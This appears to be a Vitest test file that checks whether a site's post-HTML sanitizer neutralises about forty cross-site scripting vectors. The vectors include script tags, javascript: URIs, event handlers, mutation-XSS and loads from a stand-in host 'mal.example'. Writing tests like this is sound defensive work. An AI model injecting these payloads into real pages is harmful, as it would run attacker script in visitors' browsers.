import { describe, expect, it } from "vitest";
import { sanitizePostHtml } from "../../../src/engine/node/sanitize-on-jsdom";
import { isDangerousRemoval } from "../../../src/engine/core/posts/sanitize-danger";

const SITE = { siteOrigin: "https://www.montecalvario.org.br" };
const BEFORE = "<p>Texto antes do vetor, que precisa continuar no artigo.</p>";
const AFTER = "<p>Texto depois do vetor, que também precisa continuar no artigo.</p>";

/**
 * Representative vectors in the families of DOMPurify's own test fixtures, the OWASP XSS filter
 * evasion cheat sheet, PortSwigger's XSS cheat sheet and published mutation-XSS, written for this
 * project. Each must end neutralised (nothing that can run survives) and either refused with a
 * message at a line (a dangerous removal or text that would vanish) or published without losing the
 * legitimate text around it.
 */
const VECTORS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//mal.example/x.js></SCRIPT>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<body onload=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:alert(1)">`,
  `<a href="javascript:alert(1)">clique</a>`,
  `<a href=" &#14; javascript:alert(1)">clique</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">clique</a>`,
  `<a href="//mal.example/">clique</a>`,
  `<form action="javascript:alert(1)"><input type=submit></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<style>@import 'https://mal.example/x.css';</style>`,
  `<link rel=stylesheet href="https://mal.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://mal.example/">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<svg><p><style><img src=x onerror=alert(1)></style></p></svg>`,
  `<template><script>alert(1)</script></template>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<img src="x" alt="\`\`onerror=alert(1)">`,
  `<a id="conteudo" name="getElementById">clobber</a>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<xss onafterscriptexecute=alert(1)><script>1</script>`,
  `<table background="javascript:alert(1)"></table>`,
  `<img srcset="x 1x, javascript:alert(1) 2x">`,
];

describe("a corpus of hostile post markup", () => {
  it.each(VECTORS.map((vector, i) => [i + 1, vector]))("vector %i is neutralised, and refused or published with its surrounding text: %s", (_n, vector) => {
    const body = `${BEFORE}\n${vector}\n${AFTER}\n`;
    const result = sanitizePostHtml(body, SITE);
    expect(result.html).not.toMatch(/<(script|iframe|object|embed|base|meta|link|form|input|button|style|svg|math|template|noscript)\b/i);
    expect(result.html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(result.html).not.toMatch(/(href|src|srcset|action|formaction|background)="\s*(javascript|vbscript|data:text)/i);
    expect(result.html).not.toMatch(/id="conteudo"/);
    const refused = result.removed.some((removal) => isDangerousRemoval(removal.what)) || result.textLoss !== undefined;
    if (refused) {
      const where = [...result.removed.map((r) => r.at), ...(result.textLoss ? [result.textLoss.at] : [])];
      expect(where.every((at) => at.line >= 1 && at.column >= 1)).toBe(true);
    } else {
      expect(result.html).toContain("Texto antes do vetor");
      expect(result.html).toContain("Texto depois do vetor");
    }
  });
});
